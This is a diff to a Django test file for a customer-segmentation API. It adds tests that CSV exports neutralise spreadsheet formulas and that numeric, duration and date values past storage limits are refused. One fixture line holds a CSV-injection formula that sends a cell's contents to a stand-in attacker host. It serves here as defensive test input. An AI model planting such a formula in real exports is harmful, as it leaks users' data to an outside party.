@@ -16,8 +16,9 @@ from django.urls import reverse
 from django.utils import timezone
 
 from accounts.tenancy import workspace_scope
-from segmentation import services
-from segmentation.definition import DefinitionInvalid, parse
+from segmentation import realtime, services
+from segmentation.definition import MAX_COUNT, MAX_NUMBER, DefinitionInvalid, parse
+from segmentation.dependencies import Change
 from segmentation.models import Segment, SegmentStatus
 from tests import factories
 from tests.accounts.support import api, logged_in_client, state
@@ -238,6 +239,28 @@ def test_members_csv_streams_every_member(workspace, client, key):
     ]
 
 
+# Cells a spreadsheet would run as formulas (OWASP, CSV Injection), and their defused form.
+FORMULAS = ['=HYPERLINK("https://evil.example/?d="&A1,"Open")', "+1", "-2", "@x", "\tx", "\rx"]
+
+
+def test_members_csv_defuses_formulas(workspace, client, key):
+    # Given members whose user id starts like a formula, and one that only holds such characters later
+    now = timezone.now()
+    for text in [*FORMULAS, "a=b-c"]:
+        bought(workspace, shopper(workspace, text, traits={"name": text}), now - timedelta(days=1))
+    segment = _segment(workspace)
+    with workspace_scope(workspace):
+        services.segment_refresh(segment=segment, now=now)
+
+    # When the members are exported through the API
+    response = _call(client, key, "GET", reverse("segment-members-csv", kwargs={"pk": segment.pk}))
+
+    # Then each formula-like cell starts with a quote, the rest is as it was, traits are still JSON
+    rows = list(csv.reader(io.StringIO(b"".join(response.streaming_content).decode())))
+    assert sorted(row[0] for row in rows[1:]) == sorted(["'" + text for text in FORMULAS] + ["a=b-c"])
+    assert sorted(json.loads(row[3])["name"] for row in rows[1:]) == sorted([*FORMULAS, "a=b-c"])
+
+
 def test_static_members_change_through_the_api(workspace, client, key):
     shopper(workspace, "ann"), shopper(workspace, "bob")
     with workspace_scope(workspace):
@@ -348,6 +371,167 @@ def test_invalid_definitions_are_refused_at_save_and_preview_naming_the_path(wor
         assert body["code"] == "invalid"
         assert {k: v[0] for k, v in body["errors"].items()} == expected
     assert state(workspace) == before
+
+
+# --- numbers at the edge of what storage and evaluation hold -----------------------------------
+
+MAX = MAX_NUMBER
+LARGEST_FLOAT = 9223372036854774784.0  # the largest float within MAX (2**63 - 1024)
+ORDERS = {"type": "event", "event": "Order Completed"}
+
+
+def _in_and(node: dict) -> dict:
+    return {"type": "and", "conditions": [node]}
+
+
+def _aggregate(function: str, operator: str, value) -> dict:
+    return {
+        "type": "aggregate",
+        "event": "Order Completed",
+        "key": "revenue",
+        "function": function,
+        "operator": operator,
+        "value": value,
+    }
+
+
+# Each just past a limit, with the path the answer names and its message.
+PAST_THE_LIMITS = [
+    pytest.param({**ORDERS, "count": {"operator": "gte", "value": MAX_COUNT + 1}}, "count.value", id="count"),
+    pytest.param({**ORDERS, "count": {"operator": "gte", "value": 10**20}}, "count.value", id="count-1e20"),
+    pytest.param(
+        {**ORDERS, "count": {"operator": "between", "value": [0, MAX_COUNT + 1]}}, "count.value", id="count-between"
+    ),
+    pytest.param(_aggregate("sum", "gte", 1e20), "value", id="aggregate-1e20"),
+    pytest.param(_aggregate("sum", "gte", MAX + 1), "value", id="aggregate"),
+    pytest.param(_aggregate("avg", "lte", -(10**400)), "value", id="aggregate-huge"),
+    pytest.param({"type": "trait", "key": "n", "operator": "gt", "value": MAX + 1}, "value", id="trait-gt"),
+    pytest.param({"type": "trait", "key": "n", "operator": "between", "value": [0, 1e20]}, "value[1]", id="between"),
+    pytest.param({"type": "trait", "key": "n", "operator": "in", "value": [-MAX - 1]}, "value[0]", id="in"),
+    pytest.param({"type": "trait", "key": "n", "operator": "eq", "value": 2.0**63}, "value", id="eq-float"),
+    pytest.param(
+        {**ORDERS, "filters": [{"key": "revenue", "operator": "gte", "value": MAX + 1}]},
+        "filters[0].value",
+        id="event-filter",
+    ),
+    pytest.param({**ORDERS, "window": {"since": "36601d"}}, "window.since", id="window-days"),
+    pytest.param({**ORDERS, "window": {"since": "0000-12-31T00:00:00Z"}}, "window.since", id="year-0"),
+    pytest.param(
+        {"type": "trait", "key": "t", "operator": "before", "value": "9999-12-31T23:59:59-00:01"},
+        "value",
+        id="past-year-9999",
+    ),
+    pytest.param(
+        {"type": "sequence", "within": "5229w", "steps": [{"event": "Order Completed"}] * 2},
+        "within",
+        id="sequence-within",
+    ),
+    pytest.param(
+        {"type": "regular", "event": "Order Completed", "period": "36601d", "periods": 1, "min_periods": 1},
+        "period",
+        id="regular-period",
+    ),
+    pytest.param({"type": "segment", "segment": MAX + 1}, "segment", id="segment-id"),
+]
+
+
+@pytest.mark.parametrize(("node", "path"), PAST_THE_LIMITS)
+def test_numbers_past_what_storage_holds_are_refused_naming_the_path(workspace, client, key, node, path):
+    definition = _in_and(node)
+    expected = _expected(definition, f"definition.conditions[0].{path}")
+    assert list(expected) == [f"definition.conditions[0].{path}"]
+    before = state(workspace)
+
+    saved = _call(client, key, "POST", reverse("segment-list"), {"name": "Too big", "definition": definition})
+    previewed = _call(client, key, "POST", reverse("segment-preview"), {"definition": definition})
+
+    for response in (saved, previewed):
+        assert response.status_code == 400, response.content
+        assert {k: v[0] for k, v in response.json()["errors"].items()} == expected
+    assert state(workspace) == before
+
+
+# Each just inside a limit, with the people it holds in the data below.
+WITHIN_THE_LIMITS = {
+    "count lte max": ({**ORDERS, "count": {"operator": "lte", "value": MAX_COUNT}}, {"big", "small", "none"}),
+    "count between": ({**ORDERS, "count": {"operator": "between", "value": [0, MAX_COUNT]}}, {"big", "small", "none"}),
+    "count gte max": ({**ORDERS, "count": {"operator": "gte", "value": MAX_COUNT}}, set()),
+    "sum gte max": (_aggregate("sum", "gte", MAX), {"big"}),
+    "min lte -max": (_aggregate("min", "lte", -MAX), {"small"}),
+    "avg between": (_aggregate("avg", "between", [-MAX, MAX]), {"big", "small"}),
+    "max gt float": (_aggregate("max", "gt", LARGEST_FLOAT), {"big"}),
+    "sum gt tiny": (_aggregate("sum", "gt", 5e-324), {"big"}),
+    "trait eq max": ({"type": "trait", "key": "n", "operator": "eq", "value": MAX}, {"big"}),
+    "trait gte max": ({"type": "trait", "key": "n", "operator": "gte", "value": MAX}, {"big"}),
+    "trait lt -float": ({"type": "trait", "key": "n", "operator": "lt", "value": -LARGEST_FLOAT}, {"small"}),
+    "trait between": ({"type": "trait", "key": "n", "operator": "between", "value": [-MAX, MAX]}, {"big", "small"}),
+    "trait in": ({"type": "trait", "key": "n", "operator": "in", "value": [MAX, -MAX]}, {"big", "small"}),
+    "filter gte max": ({**ORDERS, "filters": [{"key": "revenue", "operator": "gte", "value": MAX}]}, {"big"}),
+    "since a century": ({**ORDERS, "window": {"since": "36600d"}}, {"big", "small"}),
+    "until a century": ({**ORDERS, "window": {"until": "5228w"}}, set()),
+    "years 1 to 9999": (
+        {**ORDERS, "window": {"since": "0001-01-01T00:00:00Z", "until": "9999-12-31T23:59:59.999999Z"}},
+        {"big", "small"},
+    ),
+    "before 9999": (
+        {"type": "trait", "key": "t", "operator": "before", "value": "9999-12-31T23:59:59.999999Z"},
+        {"big"},
+    ),
+    "after year 1": ({"type": "trait", "key": "t", "operator": "after", "value": "0001-01-01T00:00:00Z"}, {"big"}),
+    "regular century": (
+        {"type": "regular", "event": "Order Completed", "period": "36600d", "periods": 1, "min_periods": 1},
+        {"big", "small"},
+    ),
+    "sequence within century": (
+        {
+            "type": "sequence",
+            "within": "878400h",
+            "steps": [{"event": "Order Completed"}, {"event": "$any"}],
+            "completed": False,
+        },
+        set(),
+    ),
+    "last within century": (
+        {"type": "last_performed", "event": "Order Completed", "window": {"since": "52704000m"}},
+        {"big", "small"},
+    ),
+}
+
+
+def test_numbers_just_inside_the_limits_are_saved_and_evaluated_by_refresh_and_real_time(
+    workspace, client, key, caplog
+):
+    # Given a segment per limit, saved through the API and refreshed while the workspace is empty
+    segments = {}
+    for name, (node, _) in WITHIN_THE_LIMITS.items():
+        created = _call(client, key, "POST", reverse("segment-list"), {"name": name, "definition": _in_and(node)})
+        assert created.status_code == 201, (name, created.content)
+        with workspace_scope(workspace):
+            segments[name] = Segment.objects.get(pk=created.json()["id"])
+            services.segment_refresh(segment=segments[name])
+    # and people whose numbers sit at the very edges
+    now = timezone.now()
+    big = shopper(workspace, "big", traits={"n": MAX, "t": "2026-01-01T00:00:00Z"})
+    small = shopper(workspace, "small", traits={"n": -MAX})
+    none = shopper(workspace, "none")
+    bought(workspace, big, now - timedelta(days=1), revenue=MAX)
+    bought(workspace, small, now - timedelta(days=1), revenue=-MAX)
+
+    # When real time re-evaluates them (the path that read every stored definition back through orjson)
+    with workspace_scope(workspace), caplog.at_level("INFO", logger="segmentation.realtime"):
+        realtime.people_changes_apply(
+            workspace=workspace, changes={p.pk: Change(everything=True) for p in (big, small, none)}
+        )
+
+    # Then every segment was evaluated, without an error, to the expected people
+    assert [r.getMessage() for r in caplog.records] == []
+    expected = {name: people for name, (_, people) in WITHIN_THE_LIMITS.items()}
+    assert {name: members(segment) for name, segment in segments.items()} == expected
+    # and a full refresh agrees
+    with workspace_scope(workspace):
+        for segment in segments.values():
+            services.segment_refresh(segment=segment)
+    assert {name: members(segment) for name, segment in segments.items()} == expected
 
 
 def test_an_invalid_definition_is_refused_at_patch_and_nothing_changes(workspace, client, key):
